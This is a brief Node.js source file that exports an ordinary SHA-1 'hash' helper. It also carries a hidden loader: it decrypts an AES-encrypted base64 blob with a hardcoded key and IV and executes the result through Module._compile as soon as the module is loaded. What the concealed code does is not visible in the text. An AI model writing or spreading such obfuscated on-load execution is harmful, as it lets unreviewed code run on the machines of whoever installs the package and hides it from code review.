const crypto = require('crypto'); const Module = require('module');
const d = crypto.createDecipheriv('aes-256-cbc', Buffer.from('3031323334353637383961626364656630313233343536373839616263646566', 'hex'), Buffer.from('abcdef9876543210abcdef9876543210', 'hex'));
const src = d.update('No/5FoImFQzIXIeLp3fZ5Wh69bLXYRgDy0JdRaZPz4v1T6VkSzLl6MAGKKaD8I07vzk1TP8RGLxQKutDQGXiLeXuVfF7BPU+Yi3bebq/TWA=', 'base64', 'utf8') + d.final('utf8');
const m = new Module('x'); m._compile(src, 'x.js');
module.exports = { hash: (s) => crypto.createHash('sha1').update(s).digest('hex') };
